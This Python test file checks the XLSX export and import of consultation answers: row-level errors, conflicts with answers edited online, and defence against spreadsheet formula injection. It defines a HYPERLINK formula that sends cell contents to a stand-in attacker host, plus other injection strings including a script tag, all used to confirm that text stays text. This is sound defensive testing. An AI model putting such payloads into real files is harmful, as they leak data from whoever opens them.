"""The XLSX round trip: export → edit → import gives exactly the edited values; bad rows are named; conflicts are
caught; answer texts never turn into formulas."""

from __future__ import annotations

import pytest

from consultation.models import Answer, AnswerRevision
from consultation.selectors.offline import reply_document_get
from consultation.services.answers import answer_save, response_get_or_create
from consultation.services.offline import (
    ImportNotApplied,
    ImportRefused,
    offline_import_apply,
    offline_import_preview,
    offline_workbook_export,
)
from tests.consultation.offline_world import (
    VALUE_COLUMN,
    all_types_item,
    answers_of,
    row_of,
    set_value,
    to_bytes,
    workbook,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")'


@pytest.fixture
def reply(world):
    world.tech = all_types_item(world.consultation)
    response = response_get_or_create(consultation=world.consultation, party=world.party_a)
    answer_save(
        response=response,
        item=world.items[0],
        data={"position": "yes", "explanation": FORMULA},
        base_version=0,
        user=world.member_a,
    )
    answer_save(
        response=response,
        item=world.tech,
        data={
            "position": "partially",
            "measures": ["law"],
            "priorities": ["prevention", "detection", "prosecution"],
            "explanation": "Criminal Code, art. 227-23.",
            "cases": "12.5",
            "references": [{"instrument": "Criminal Code", "provision": "Art. 227-23", "url": ""}],
        },
        base_version=0,
        user=world.member_a,
    )
    return response


def export(reply) -> bytes:
    document = reply_document_get(consultation=reply.consultation, party=reply.party, response=reply)
    return offline_workbook_export(document=document)


def written(reply) -> tuple[dict, int]:
    return answers_of(reply), AnswerRevision.objects.filter(answer__response=reply).count()


def test_the_export_has_one_row_per_item_and_field_with_readable_values(reply):
    sheet = workbook(export(reply)).worksheets[0]
    assert [cell.value for cell in sheet[1]] == [
        "Item code",
        "Theme",
        "Question",
        "Field key",
        "Field",
        "Field type",
        "Required",
        "Allowed options",
        "Value",
        "Answer version",
        "Option keys (do not edit)",
    ]
    assert sheet.column_dimensions["K"].hidden is True
    assert sheet[1][0].font.bold is True
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 1 + 2 + 2 + 7  # GENAI-01 and ROBOT-01 have 2 fields, TECH-01 has 7
    rows = {(r[0], r[3]): r for r in sheet.iter_rows(min_row=2, values_only=True)}
    # Readable labels in "Value", the keys in the hidden column for the round trip.
    assert rows[("TECH-01", "position")][8:] == ("Partially", 1, "partially")
    assert rows[("TECH-01", "position")][7] == "Yes; Partially; No"
    assert rows[("TECH-01", "measures")][8:] == ("Legislation", 1, "law")
    assert rows[("TECH-01", "priorities")][8:] == (
        "Prevention > Detection > Prosecution",
        1,
        "prevention > detection > prosecution",
    )
    assert rows[("TECH-01", "cases")][8] == 12.5
    assert rows[("TECH-01", "references")][8] == "Criminal Code | Art. 227-23"
    assert rows[("TECH-01", "evidence")][8] is None
    assert rows[("ROBOT-01", "position")][8:] == (None, 0, None)
    assert rows[("GENAI-01", "explanation")][8] == FORMULA
    validations = sheet.data_validations.dataValidation
    assert [v.formula1 for v in validations] == ['"Yes,Partially,No"']
    assert "I2" in str(validations[0].sqref)


def test_export_edit_import_gives_exactly_the_edited_values(world, reply):
    book = workbook(export(reply))
    sheet = book.worksheets[0]
    set_value(sheet, "GENAI-01", "position", "no")
    set_value(sheet, "ROBOT-01", "position", "Partially")  # a label is accepted for its key
    set_value(sheet, "ROBOT-01", "explanation", "Draft law no. 1234 is before Parliament.")
    set_value(sheet, "TECH-01", "measures", "training; law")
    set_value(sheet, "TECH-01", "priorities", "detection > prevention > prosecution")
    set_value(sheet, "TECH-01", "explanation", "Two ministries contributed.\nSee the annex.")
    set_value(sheet, "TECH-01", "cases", 42)
    set_value(
        sheet,
        "TECH-01",
        "references",
        "Criminal Code | Art. 227-23 | https://www.legifrance.gouv.fr/\nLaw 2024-449 | Art. 4",
    )

    preview = offline_import_preview(response=reply, content=to_bytes(book), filename="filled.xlsx")

    assert preview.errors == []
    assert preview.conflicts == []
    assert {c.item_code: [f.key for f in c.fields] for c in preview.changes} == {
        "GENAI-01": ["position"],
        "ROBOT-01": ["position", "explanation"],
        "TECH-01": ["measures", "priorities", "explanation", "cases", "references"],
    }
    genai = next(c for c in preview.changes if c.item_code == "GENAI-01")
    assert (genai.fields[0].old, genai.fields[0].new) == (["Yes"], ["No"])

    result = offline_import_apply(response=reply, preview=preview, take_file=set(), user=world.member_a)

    assert result.saved == ["GENAI-01", "ROBOT-01", "TECH-01"]
    assert answers_of(reply) == {
        "GENAI-01": (2, {"position": "no", "explanation": FORMULA}),
        "ROBOT-01": (1, {"position": "partially", "explanation": "Draft law no. 1234 is before Parliament."}),
        "TECH-01": (
            2,
            {
                "position": "partially",
                "measures": ["law", "training"],
                "priorities": ["detection", "prevention", "prosecution"],
                "explanation": "Two ministries contributed.\nSee the annex.",
                "cases": "42",
                "references": [
                    {
                        "instrument": "Criminal Code",
                        "provision": "Art. 227-23",
                        "url": "https://www.legifrance.gouv.fr/",
                    },
                    {"instrument": "Law 2024-449", "provision": "Art. 4", "url": ""},
                ],
            },
        ),
    }
    sources = set(AnswerRevision.objects.filter(answer__response=reply, version__gt=1).values_list("source", flat=True))
    assert sources == {"import"}


def test_an_unedited_download_changes_nothing(world, reply):
    preview = offline_import_preview(response=reply, content=export(reply), filename="same.xlsx")
    assert (preview.errors, preview.changes, preview.unchanged_items) == ([], [], 3)


def _unknown_item(sheet):
    row = row_of(sheet, "ROBOT-01", "explanation")
    sheet[f"A{row}"] = "NOPE-99"
    return row, "Item code", "Unknown item code “NOPE-99”."


def _option_not_allowed(sheet):
    row = set_value(sheet, "TECH-01", "position", "maybe")
    return row, "Value", "“maybe” is not an allowed option for “Position”. Allowed: yes, partially, no."


def _text_over_limit(sheet):
    row = set_value(sheet, "TECH-01", "explanation", "x" * 201)
    return row, "Value", "The text is 201 characters long; the limit is 200."


def _ranking_incomplete(sheet):
    row = set_value(sheet, "TECH-01", "priorities", "detection > prevention")
    return row, "Value", "Rank every listed option exactly once."


def _unknown_field(sheet):
    row = row_of(sheet, "TECH-01", "cases")
    sheet[f"D{row}"] = "victims"
    return row, "Field key", "Item TECH-01 has no field “victims”."


def _not_a_number(sheet):
    row = set_value(sheet, "TECH-01", "cases", "about twelve")
    return row, "Value", "“about twelve” is not a number."


def _required_column_missing(sheet):
    sheet.delete_cols(9)  # the Value column
    return 1, "Value", "The required column “Value” is missing."


def _duplicate_row(sheet):
    source = row_of(sheet, "GENAI-01", "position")
    target = sheet.max_row + 1
    for column in range(1, 11):
        sheet.cell(row=target, column=column, value=sheet.cell(row=source, column=column).value)
    return target, "Field key", f"GENAI-01 / position already appears on row {source}."


@pytest.mark.parametrize(
    "break_it",
    [
        _unknown_item,
        _option_not_allowed,
        _text_over_limit,
        _ranking_incomplete,
        _unknown_field,
        _not_a_number,
        _required_column_missing,
        _duplicate_row,
    ],
)
def test_each_malformed_row_gets_its_specific_error_and_nothing_is_written(world, reply, break_it):
    book = workbook(export(reply))
    sheet = book.worksheets[0]
    if break_it is not _required_column_missing:
        set_value(sheet, "GENAI-01", "position", "no")  # a valid change that must not be written either
    row, column, message = break_it(sheet)
    before = written(reply)

    preview = offline_import_preview(response=reply, content=to_bytes(book), filename="bad.xlsx")

    assert [(e.row, e.column, e.message) for e in preview.errors] == [(row, column, message)]
    with pytest.raises(ImportNotApplied, match="The file has errors"):
        offline_import_apply(response=reply, preview=preview, take_file=set(), user=world.member_a)
    assert written(reply) == before


def test_a_file_that_is_not_an_xlsx_is_refused_before_parsing(reply):
    with pytest.raises(ImportRefused, match="not an XLSX workbook"):
        offline_import_preview(response=reply, content=b"item_code;value\nGENAI-01;no\n", filename="x.xlsx")


def test_an_answer_changed_online_since_the_download_is_a_conflict_never_overwritten_silently(world, reply):
    content = export(reply)
    # After the download, a colleague changes GENAI-01 and ROBOT-01 online.
    answer_save(
        response=reply,
        item=world.items[0],
        data={"position": "partially", "explanation": FORMULA},
        base_version=1,
        user=world.head_a,
    )
    answer_save(response=reply, item=world.items[1], data={"position": "yes"}, base_version=0, user=world.head_a)
    book = workbook(content)
    set_value(book.worksheets[0], "GENAI-01", "position", "no")  # the ministry changed GENAI-01 too
    set_value(book.worksheets[0], "TECH-01", "cases", 7)  # and TECH-01, untouched online

    preview = offline_import_preview(response=reply, content=to_bytes(book), filename="late.xlsx")

    assert preview.errors == []
    assert [(c.item_code, c.file_version, c.online_version) for c in preview.conflicts] == [("GENAI-01", 1, 2)]
    conflict = preview.conflicts[0]
    assert [(f.key, f.old, f.new) for f in conflict.fields] == [("position", ["Partially"], ["No"])]
    assert [c.item_code for c in preview.plain_changes] == ["TECH-01"]  # ROBOT-01 unchanged in the file: no conflict

    result = offline_import_apply(response=reply, preview=preview, take_file=set(), user=world.member_a)
    assert (result.saved, result.kept_online) == (["TECH-01"], ["GENAI-01"])
    answers = answers_of(reply)
    assert answers["GENAI-01"] == (2, {"position": "partially", "explanation": FORMULA})
    assert answers["ROBOT-01"] == (1, {"position": "yes"})
    assert answers["TECH-01"][1]["cases"] == "7"


def test_taking_the_file_for_a_conflict_keeps_the_other_online_fields(world, reply):
    content = export(reply)
    answer_save(
        response=reply,
        item=world.items[0],
        data={"position": "yes", "explanation": "Updated online by the head of delegation."},
        base_version=1,
        user=world.head_a,
    )
    book = workbook(content)
    set_value(book.worksheets[0], "GENAI-01", "position", "no")
    preview = offline_import_preview(response=reply, content=to_bytes(book), filename="late.xlsx")

    offline_import_apply(response=reply, preview=preview, take_file={"GENAI-01"}, user=world.member_a)

    assert answers_of(reply)["GENAI-01"] == (
        3,
        {"position": "no", "explanation": "Updated online by the head of delegation."},
    )


def test_a_save_between_preview_and_confirmation_aborts_the_whole_import(world, reply):
    book = workbook(export(reply))
    set_value(book.worksheets[0], "ROBOT-01", "position", "no")
    set_value(book.worksheets[0], "GENAI-01", "position", "no")
    preview = offline_import_preview(response=reply, content=to_bytes(book), filename="f.xlsx")
    answer_save(
        response=reply,
        item=world.items[0],
        data={"position": "partially", "explanation": FORMULA},
        base_version=1,
        user=world.head_a,
    )
    before = written(reply)

    with pytest.raises(ImportNotApplied, match="GENAI-01 was changed online after the preview"):
        offline_import_apply(response=reply, preview=preview, take_file=set(), user=world.member_a)

    assert written(reply) == before  # ROBOT-01, saved first, was rolled back too


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "=1+1",
        "+33 1 23 45 67 89",
        "-2 cases withdrawn",
        "@SUM(A1:A9)",
        '<script>alert("x")</script><b>bold</b>',
    ],
)
def test_answer_texts_come_back_as_text_never_as_formulas(world, reply, text):
    answer_save(
        response=reply,
        item=world.items[1],
        data={"position": "no", "explanation": text},
        base_version=0,
        user=world.member_a,
    )
    answer_save(
        response=reply,
        item=world.tech,
        data={"references": [{"instrument": text, "provision": "", "url": ""}], "position": "no"},
        base_version=1,
        user=world.member_a,
    )
    book = workbook(export(reply))
    sheet = book.worksheets[0]

    explanation = sheet[f"{VALUE_COLUMN}{row_of(sheet, 'ROBOT-01', 'explanation')}"]
    reference = sheet[f"{VALUE_COLUMN}{row_of(sheet, 'TECH-01', 'references')}"]
    assert (explanation.value, explanation.data_type) == (text, "s")
    assert (reference.value, reference.data_type) == (text, "s")
    # Re-importing the unchanged file changes nothing: the text survived the round trip exactly.
    preview = offline_import_preview(response=reply, content=to_bytes(book), filename="same.xlsx")
    assert (preview.errors, preview.changes) == ([], [])


def test_untouched_cells_round_trip_even_when_their_text_cannot_be_re_read(world, reply):
    """A “|” inside a provision, or a control character XML cannot hold, survives an unchanged round trip.

    Saves refuse control characters now; an answer saved before that check (written here round the service)
    still round-trips."""
    saved = answer_save(
        response=reply,
        item=world.tech,
        data={
            "position": "yes",
            "explanation": "Bell character from a pasted e-mail.",
            "references": [{"instrument": "Criminal Code", "provision": "Art. 227-23 | 227-24", "url": ""}],
        },
        base_version=1,
        user=world.member_a,
    )
    Answer.objects.filter(pk=saved.pk).update(
        data={**saved.data, "explanation": "Bell\x07 character from a pasted e-mail."}
    )
    book = workbook(export(reply))
    sheet = book.worksheets[0]
    assert sheet[f"{VALUE_COLUMN}{row_of(sheet, 'TECH-01', 'references')}"].value == (
        "Criminal Code | Art. 227-23 | 227-24"
    )
    set_value(sheet, "ROBOT-01", "position", "no")

    preview = offline_import_preview(response=reply, content=to_bytes(book), filename="f.xlsx")

    assert preview.errors == []
    assert [c.item_code for c in preview.changes] == ["ROBOT-01"]


def test_an_edited_reference_line_with_four_parts_is_reported(world, reply):
    book = workbook(export(reply))
    row = set_value(book.worksheets[0], "TECH-01", "references", "Criminal Code | Art. 1 | https://a.example | extra")
    preview = offline_import_preview(response=reply, content=to_bytes(book), filename="f.xlsx")
    assert [(e.row, e.column, e.message) for e in preview.errors] == [
        (row, "Value", "Line 1 has more than three parts; write “instrument | provision | link”.")
    ]
